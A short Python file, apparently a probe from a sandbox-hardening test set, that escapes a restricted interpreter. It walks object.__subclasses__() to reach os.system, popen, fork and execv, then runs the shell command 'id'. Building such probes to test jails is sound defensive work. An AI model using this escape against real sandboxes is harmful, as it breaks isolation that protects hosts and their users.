# From: jail escapes since 2009: from a tuple to `os._wrap_close` through `__subclasses__`.
# Ends: []
from gains import gains


def attack(probe):
    found = []
    for kind in ().__class__.__base__.__subclasses__():
        scope = getattr(getattr(kind, "__init__", None), "__globals__", {})
        for name in ("system", "popen", "fork", "execv"):
            if callable(scope.get(name)):
                found.append(scope[name])
    return gains([lambda way=way: (lambda got: None if got in (-1, None) or hasattr(got, "read") and got.read() == "" else got)(way("id")) for way in found])
